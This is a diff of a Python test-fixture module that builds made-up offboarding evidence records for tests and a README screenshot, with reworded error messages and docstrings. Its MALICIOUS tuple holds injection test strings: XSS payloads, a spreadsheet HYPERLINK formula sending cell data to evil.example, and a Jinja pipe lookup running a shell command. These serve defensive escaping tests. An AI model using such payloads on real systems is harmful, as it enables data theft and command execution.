@@ -2,7 +2,7 @@
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
 
-"""Made-up evidence of runs, for the tests of what is written from it and for the picture in the README."""
+"""Made-up evidence documents, for tests and for the screenshot in the README."""
 
 from __future__ import annotations
 
@@ -49,6 +49,7 @@ def device(
         "device_id": device_id(name) if found else None,
         "device_name": name if found else None,
         "outcome": outcome,
+        "external_id": f"{guid(f'request {name}')} CHG-1042" if outcome == "submitted" else None,
         "changed": outcome == "submitted",
         "failed": error is not None,
         "action": action,
@@ -105,16 +106,16 @@ def candidate(name: str, number: int, last_seen: str) -> Record:
 
 REFUSED = failure(
     "refused",
-    "The service refused the offboard: Action is not supported on this OS platform.",
-    "Only Windows is documented for this call. Take the device out with its own offboarding package.",
+    "The service refused the request: Action is not supported on this OS platform.",
+    "The API documents offboarding for Windows only. Use the offboarding package for this platform.",
     400,
     guid("correlation"),
 )
 
 
 def small_office() -> Record:
-    """Two dozen devices of an office that closed, with something of everything."""
-    twin, typo = "pc-0301.corp.example", "srv-file1.corp.exmaple"
+    """The devices of an office that closed, with many different outcomes."""
+    same_name, typo = "pc-0301.corp.example", "srv-file1.corp.exmaple"
     devices = [
         device(
             f"pc-{n:04}.corp.example",
@@ -125,14 +126,17 @@ def small_office() -> Record:
     ]
     devices += [
         device(
-            twin,
+            same_name,
             "ambiguous",
             error=failure(
                 "ambiguous",
-                f"Two devices are called {twin}.",
-                "Give the device id of the one that is meant: the candidates differ in when they were last seen.",
+                f"{same_name} matches 2 devices.",
+                "Nothing was changed. Compare the candidates and set device_id.",
             ),
-            candidates=[candidate(twin, 1, "2026-02-02T21:10:00Z"), candidate(twin, 2, "2025-11-17T08:00:00Z")],
+            candidates=[
+                candidate(same_name, 1, "2026-02-02T21:10:00Z"),
+                candidate(same_name, 2, "2025-11-17T08:00:00Z"),
+            ],
         ),
         device("kiosk-01.corp.example", "submitted", machine_action("kiosk-01", "Pending", "04:06:31")),
         device(
@@ -144,8 +148,8 @@ def small_office() -> Record:
             "not_found",
             error=failure(
                 "not_found",
-                f"No device is called {typo}, by two different reads.",
-                "Check the ticket. One name comes near.",
+                f"No device with the name {typo} was found.",
+                "Check the spelling and the tenant. A candidate has a similar name.",
             ),
             candidates=[candidate("srv-file1.corp.example", 1, "2026-02-03T02:40:00Z")],
         ),
@@ -167,7 +171,7 @@ def small_office() -> Record:
 
 
 def verification() -> Record:
-    """What came of six of them, days later."""
+    """The verification of seven devices, days later, with seven outcomes."""
     ended = {
         "done": "Succeeded", "came_back": "Succeeded", "pending": "Pending", "failed": "Failed", "timed_out": "TimeOut",
         "cancelled": "Cancelled",
@@ -185,7 +189,7 @@ def verification() -> Record:
 
 
 def many_devices(count: int) -> Record:
-    """Many devices: one in seven failed, the others are under way."""
+    """Many devices: one in seven failed, the others are in progress."""
     return evidence(
         [
             device(name, "refused", error=REFUSED)
@@ -203,7 +207,7 @@ MALICIOUS = (
     "</style></title><img src=x onerror=alert(1)>",
     '" autofocus onfocus="alert(1)',
     "' onmouseover='alert(1)",
-    '=HYPERLINK("https://evil.example/?"&A1;"look")',
+    '=HYPERLINK("https://evil.example/?"&A1;"open")',
     "{{ lookup('pipe', 'id') }}",
     "{% raw %}{#",
     "&lt;b&gt; &amp;amp;",
@@ -218,7 +222,7 @@ MALICIOUS = (
 
 
 def malicious() -> Record:
-    """Every value that could come from somebody else says something nasty."""
+    """Every value from outside is an attack."""
     devices = []
     for text in MALICIOUS:
         bad = dict.fromkeys(("code", "message", "http_status", "correlation_id", "hint"), text)
